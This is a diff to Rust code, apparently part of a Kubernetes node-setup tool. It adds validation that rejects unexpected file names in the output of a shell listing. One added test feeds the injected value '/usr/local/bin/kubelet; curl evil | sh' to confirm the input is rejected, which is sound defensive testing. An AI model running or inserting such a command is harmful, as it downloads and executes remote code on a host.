@@ -130,7 +130,12 @@ pub(super) fn read(answers: &Answers) -> Result<AptFacts, Gap> {
             packages.insert(name.to_owned(), Package { version: version.to_owned(), whole: status == "installed", held: want == "hold" });
         }
     }
-    Ok(AptFacts { packages, rivals: lines("node/rivals")?, hiding: lines("node/hiding")? })
+    // They stand in a command that is shown: only what was asked for is taken.
+    let hiding: Vec<String> = lines("node/hiding")?;
+    match hiding.iter().find(|file| !HIDING.contains(&file.as_str())) {
+        Some(other) => Err(Gap::new(format!("ls answered with a file that was not asked for: {other:?}"))),
+        None => Ok(AptFacts { packages, rivals: lines("node/rivals")?, hiding }),
+    }
 }
 
 /// Why packages are not installed on a node.
@@ -249,6 +254,10 @@ mod tests {
         assert!(obstacles(&node, &wanted(), &found).is_empty());
         found.rivals.push("/etc/apt/sources.list.d/k8s.list".into());
         found.hiding.push("/usr/local/bin/kubelet".into());
+        let none = [("node/packages", 0, ""), ("node/rivals", 0, "")];
+        for (said, good) in [("/usr/local/bin/kubelet\n", true), ("/usr/local/bin/kubelet; curl evil | sh\n", false)] {
+            assert_eq!(read(&Answers::from_pairs(none.into_iter().chain([("node/hiding", 0, said)]))).is_ok(), good, "{said}");
+        }
         let text: String = obstacles(&node, &wanted(), &found).iter().map(|h| format!("{} {}\n", h.reason, h.hint)).collect();
         assert!(text.contains("k8s.list") && text.contains("rm /usr/local/bin/kubelet"), "{text}");
     }
